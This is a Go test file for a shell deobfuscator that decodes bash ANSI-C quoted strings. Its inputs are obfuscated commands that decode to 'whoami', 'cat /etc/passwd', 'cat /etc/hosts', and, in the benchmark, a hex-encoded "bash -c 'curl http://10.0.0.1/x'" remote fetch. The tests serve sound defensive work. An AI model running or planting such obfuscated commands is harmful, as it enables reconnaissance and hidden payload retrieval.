package deobfuscate

import "testing"

func TestShANSIC(t *testing.T) {
	runTransformTable(t, ShANSIC, []transformCase{
		{"hex", `$'\x77\x68\x6f\x61\x6d\x69'`, `whoami`, true},
		{"octal", `$'\143\141\164' /etc/passwd`, `cat /etc/passwd`, true},
		{"unicode", `$'\u0069\u0064'`, `id`, true},
		{"glued to a word", `$'\x63'at /etc/hosts`, `cat /etc/hosts`, true},
		{"needs quoting", `echo $'a\nb'`, "echo 'a\nb'", true},
		{"escaped quote", `echo $'it\'s'`, `echo "it's"`, true},
		{"inside single quotes", `echo '$'\''x'`, `echo '$'\''x'`, false},
		{"inside double quotes", `echo "$'\x41'"`, `echo "$'\x41'"`, false},
		{"nul truncates", `$'ab\x00cd'`, `ab`, true},
		{"unterminated", `$'\x41`, `$'\x41`, false},
		{"plain text", `echo hello`, `echo hello`, false},
	})
}

func FuzzShANSIC(f *testing.F) {
	fuzzTransform(f, ShANSIC, `$'\x77\x68\x6f'`, `$'\u12345678'`, `$'\U0010ffff\777'`, `$'\`)
}

func BenchmarkShANSIC(b *testing.B) {
	benchTransform(b, ShANSIC, `$'\x62\x61\x73\x68' -c $'\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31\x30\x2e\x30\x2e\x30\x2e\x31\x2f\x78'`)
}
